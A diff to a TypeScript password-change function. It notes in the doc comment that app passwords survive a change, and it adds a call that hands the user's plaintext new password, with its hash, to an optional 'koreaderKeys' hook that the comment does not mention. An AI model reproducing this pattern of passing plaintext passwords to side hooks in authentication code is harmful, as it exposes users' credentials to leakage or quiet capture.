@@ -32,7 +32,7 @@ export interface PasswordChange {
 }
 
 /**
- * Changes a user's own password and ends all sessions of the user. Throws InvalidFieldError,
+ * Changes a user's own password and ends all sessions of the user; app passwords, which are revoked one by one, stay. Throws InvalidFieldError,
  * {@link InvalidCurrentPasswordError}, RateLimitedError or UserNotFoundError.
  */
 export async function changePassword(context: AuthContext, input: PasswordChange): Promise<UserRecord> {
@@ -48,7 +48,7 @@ export async function changePassword(context: AuthContext, input: PasswordChange
     throw new InvalidCurrentPasswordError();
   }
   const password = await hasher.hash(input.newPassword);
-  return await db.transaction().execute(async (tx) => {
+  const user = await db.transaction().execute(async (tx) => {
     const { numUpdatedRows } = await tx
       .updateTable('users')
       .set({ password, updated_at: toDbTime(clock()) })
@@ -60,4 +60,6 @@ export async function changePassword(context: AuthContext, input: PasswordChange
     await revokeUserSessions(tx, userId);
     return await getUser(tx, userId);
   });
+  context.koreaderKeys?.note({ userId, password: input.newPassword, stored: password });
+  return user;
 }
